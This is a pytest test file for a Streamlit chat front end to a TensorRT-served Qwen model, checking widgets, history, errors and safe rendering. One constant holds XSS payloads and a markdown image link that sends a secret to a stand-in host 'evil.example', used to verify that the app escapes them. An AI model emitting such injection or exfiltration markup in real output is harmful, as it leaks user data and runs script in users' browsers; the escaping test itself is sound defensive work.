"""The Streamlit app, headless (``streamlit.testing.v1.AppTest``): widgets, history, errors,
safety of rendered model output. Most tests use a scripted backend so the reply text is known."""
from __future__ import annotations

import sys
import threading
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from qwen_trt.serving import service as serving
from fakes import ScriptedBackend
from qwen_trt.errors import EngineMismatchError
from qwen_trt.params import SamplingParams
from qwen_trt.serving.service import InferenceService
from qwen_trt.ui.state import PendingReply

APP = str(Path(__file__).resolve().parents[1] / "app.py")
TIMEOUT = 30

PAYLOAD = ("<script>alert('xss')</script> <b>bold</b> <img src=x onerror=alert(1)> "
           "![leak](https://evil.example/collect?d=secret)")


@pytest.fixture(autouse=True)
def fresh_cache():
    st.cache_resource.clear()
    yield
    st.cache_resource.clear()


@pytest.fixture
def scripted(monkeypatch, tiny_tokenizer):
    """Serve a ScriptedBackend. ``scripted(text, *argv)`` sets its reply and the app's
    arguments, and returns the list of backends the app loads (one per process, normally)."""
    made: list[ScriptedBackend] = []
    reply = {"text": "Hello there!"}

    def fake_load(cfg):
        backend = ScriptedBackend(tiny_tokenizer, reply["text"], max_seq_len=cfg.max_seq_len or 4096)
        made.append(backend)
        return backend

    monkeypatch.setattr(serving, "load_backend", fake_load)

    def use(text: str, *argv: str) -> list[ScriptedBackend]:
        monkeypatch.setattr(sys, "argv", ["app.py", *argv])
        reply["text"] = text
        return made

    return use


def run_app() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def send(at: AppTest, text: str) -> AppTest:
    at.chat_input[0].set_value(text).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def history(at: AppTest) -> list[tuple[str, str]]:
    state = at.session_state["chat_state"]
    return [(m.role, m.content) for m in state.chat.messages]


def all_markdown(at: AppTest):
    return [m for m in at.markdown] + [m for m in at.sidebar.markdown]


def test_sidebar_controls_ranges_and_defaults(scripted):
    scripted("hi")
    at = run_app()
    sliders = {s.key: s for s in at.sidebar.slider}
    assert set(sliders) == {"max_new_tokens", "temperature", "top_p"}
    mx, temp, top_p = sliders["max_new_tokens"], sliders["temperature"], sliders["top_p"]
    assert (mx.min, mx.max, mx.value) == (128, 4096, 512)
    assert (temp.min, temp.max, temp.value) == (0.0, 1.5, 0.7)
    assert (top_p.max, top_p.value) == (1.0, 0.8) and top_p.min > 0
    assert at.sidebar.text_area(key="system_prompt").value == ""
    assert at.sidebar.button(key="clear").label == "Clear memory"
    info = " ".join(c.value for c in at.sidebar.caption)
    assert "scripted · fake-model · cpu · float32" in info
    assert len(at.chat_input) == 1 and len(at.chat_message) == 0


def test_sliders_drive_sampling_params(scripted):
    made = scripted("one two three four five six seven eight nine ten")
    at = run_app()
    at.sidebar.slider(key="max_new_tokens").set_value(128).run()
    at.sidebar.slider(key="temperature").set_value(0.0).run()
    send(at, "count")
    reply = history(at)[1][1]
    assert reply == "one two three four five six seven eight nine ten"
    assert len(made) == 1 and len(made[0].prompts) == 1


def test_message_streams_a_reply_into_history_and_clear_empties_it(scripted):
    scripted("Hello **there**, friend.\n\nSecond paragraph.")
    at = run_app()
    send(at, "hi")
    assert history(at) == [("user", "hi"),
                           ("assistant", "Hello **there**, friend.\n\nSecond paragraph.")]
    user, assistant = at.chat_message
    assert (user.name, assistant.name) == ("user", "assistant")
    assert user.markdown[0].value == "hi"
    assert assistant.markdown[0].value == "Hello **there**, friend.\n\nSecond paragraph."
    footer = assistant.caption[0].value
    assert "first token" in footer and "tokens/s" in footer

    send(at, "and again")
    assert [m.name for m in at.chat_message] == ["user", "assistant"] * 2
    assert len(history(at)) == 4

    at.sidebar.button(key="clear").click().run()
    assert history(at) == [] and len(at.chat_message) == 0
    send(at, "fresh start")                       # the next prompt has no old turns
    assert len(history(at)) == 2


def test_system_prompt_and_history_go_into_the_prompt(scripted, tiny_tokenizer):
    made = scripted("ok")
    at = run_app()
    at.sidebar.text_area(key="system_prompt").set_value("You are terse.").run()
    send(at, "first")
    send(at, "second")
    prompt = tiny_tokenizer.decode(made[0].prompts[-1])
    assert prompt.startswith("<|im_start|>system\nYou are terse.<|im_end|>")
    assert "<|im_start|>user\nfirst<|im_end|>\n<|im_start|>assistant\nok<|im_end|>" in prompt
    assert prompt.endswith("<|im_start|>user\nsecond<|im_end|>\n<|im_start|>assistant\n")


def test_model_output_html_and_images_render_as_text(scripted):
    scripted(PAYLOAD)
    at = run_app()
    send(at, "say something nasty")
    assert history(at)[1][1] == PAYLOAD            # history keeps the raw model text
    shown = at.chat_message[1].markdown[0].value
    assert "\\<script>alert('xss')\\</script>" in shown and "\\<b>bold\\</b>" in shown
    assert "\\![leak](https://evil.example/collect?d=secret)" in shown
    assert "](https" not in shown.replace("\\![leak](https", "")
    assert all(not m.proto.allow_html for m in all_markdown(at))
    send(at, "again")                              # re-rendered from history: same treatment
    assert at.chat_message[1].markdown[0].value == shown
    assert all(not m.proto.allow_html for m in all_markdown(at))


def test_message_too_long_shows_error_and_keeps_history(scripted):
    scripted("short reply", "--max-seq-len", "200")
    at = run_app()
    at.sidebar.slider(key="max_new_tokens").set_value(128).run()
    send(at, "hello")
    before = history(at)
    assert len(before) == 2
    send(at, "word " * 100)
    assert len(at.error) == 1
    assert "too long" in at.error[0].value and "Shorten it" in at.error[0].value
    assert history(at) == before
    assert [m.name for m in at.chat_message] == ["user", "assistant", "user"]


def test_max_length_above_the_context_limit_is_explained(scripted):
    scripted("x", "--max-seq-len", "300")
    at = run_app()
    send(at, "hello")
    assert "leaves no room" in at.error[0].value and "lower it" in at.error[0].value
    assert history(at) == []


def test_empty_message_shows_error(scripted):
    scripted("reply")
    at = run_app()
    send(at, "hi")
    send(at, "   ")
    assert "empty" in at.error[0].value
    assert len(history(at)) == 2


def test_old_turns_dropped_note(scripted):
    scripted("a reply of a few words here", "--max-seq-len", "230")
    at = run_app()
    at.sidebar.slider(key="max_new_tokens").set_value(128).run()
    for i in range(4):
        send(at, f"message number {i}")
    notes = [c.value for c in at.chat_message[-1].caption]
    assert any("oldest turn" in n and "left out of the prompt" in n for n in notes), notes
    state = at.session_state["chat_state"]
    assert state.notes[-1].dropped_turns >= 1
    assert len(history(at)) == 8                   # the page keeps every turn


def test_missing_model_folder_shows_what_to_do(monkeypatch, tmp_path):
    monkeypatch.setattr(sys, "argv", ["app.py", "--model", str(tmp_path / "nope")])
    at = run_app()
    assert len(at.error) == 1
    msg = at.error[0].value
    assert "does not exist" in msg and "tiny-model" in msg
    assert len(at.chat_input) == 0


@pytest.mark.parametrize("error, words", [
    (EngineMismatchError("The engine in engines/a10 was built for NVIDIA A10, this GPU is an "
                         "H200: rebuild it with `qwen-trt build`."), "rebuild it"),
    (RuntimeError("CUDA out of memory\nTraceback details"),
     "Unexpected error while loading the engine (RuntimeError: CUDA out of memory)"),
])
def test_load_errors_show_one_line_not_a_traceback(monkeypatch, error, words):
    def fail(cfg):
        raise error

    monkeypatch.setattr(serving, "load_backend", fail)
    monkeypatch.setattr(sys, "argv", ["app.py"])
    at = run_app()                                  # asserts no st.exception (traceback) element
    assert len(at.error) == 1 and words in at.error[0].value
    assert "Traceback" not in at.error[0].value


def test_bad_app_option_shows_error(monkeypatch):
    monkeypatch.setattr(sys, "argv", ["app.py", "--backend", "nope"])
    at = run_app()
    assert "Unknown backend 'nope'" in at.error[0].value


def test_engine_failure_mid_reply_shows_error_and_keeps_history(scripted):
    made = scripted("fine")
    at = run_app()
    send(at, "first")

    def broken(prompt_ids, params):
        yield from ()
        raise RuntimeError("device lost")

    made[0].stream = broken
    send(at, "second")
    assert "device lost" in at.error[0].value
    assert history(at) == [("user", "first"), ("assistant", "fine")]


def test_reply_interrupted_by_a_rerun_is_kept_and_marked(scripted, tiny_tokenizer):
    scripted("unused")
    at = run_app()
    # A reply still streaming when the user acts: simulate the old run's pending request on a
    # stuck engine that has produced "Partial" so far.
    stuck = ScriptedBackend(tiny_tokenizer, "Partial answer")
    n = len(tiny_tokenizer.encode("Partial", add_special_tokens=False))
    released = threading.Semaphore(0)

    def stream(prompt_ids, params, _orig=stuck.stream):
        for i, tok in enumerate(_orig(prompt_ids, params)):
            if i == n - 1:             # the last token of "Partial": the next one never comes
                stuck.gate.clear()
                released.release()
            yield tok

    stuck.stream = stream
    svc = InferenceService(stuck)
    try:
        handle = svc.submit([1, 2, 3], SamplingParams(max_new_tokens=64, temperature=0))
        assert released.acquire(timeout=TIMEOUT)
        at.session_state["chat_state"].pending = PendingReply("tell me", handle)
        at.sidebar.slider(key="temperature").set_value(0.3).run()   # any click reruns
        assert history(at) == [("user", "tell me"), ("assistant", "Partial")]
        assert at.session_state["chat_state"].chat.messages[1].interrupted
        assert handle.cancelled and handle.done
        assert "interrupted" in at.chat_message[1].caption[0].value
    finally:
        svc.close()



def test_tiny_model_end_to_end(monkeypatch, tiny_model_dir):
    monkeypatch.setattr(sys, "argv", ["app.py", "--model", str(tiny_model_dir), "--device", "cpu"])
    at = run_app()
    assert "torch" in " ".join(c.value for c in at.sidebar.caption)
    at.sidebar.slider(key="max_new_tokens").set_value(128).run()
    send(at, "Hello, how are you today?")
    (role_u, u), (role_a, a) = history(at)
    assert (role_u, u, role_a) == ("user", "Hello, how are you today?", "assistant")
    assert a.strip()
    assert at.session_state["chat_state"].notes[0].footer.count("tokens") == 2
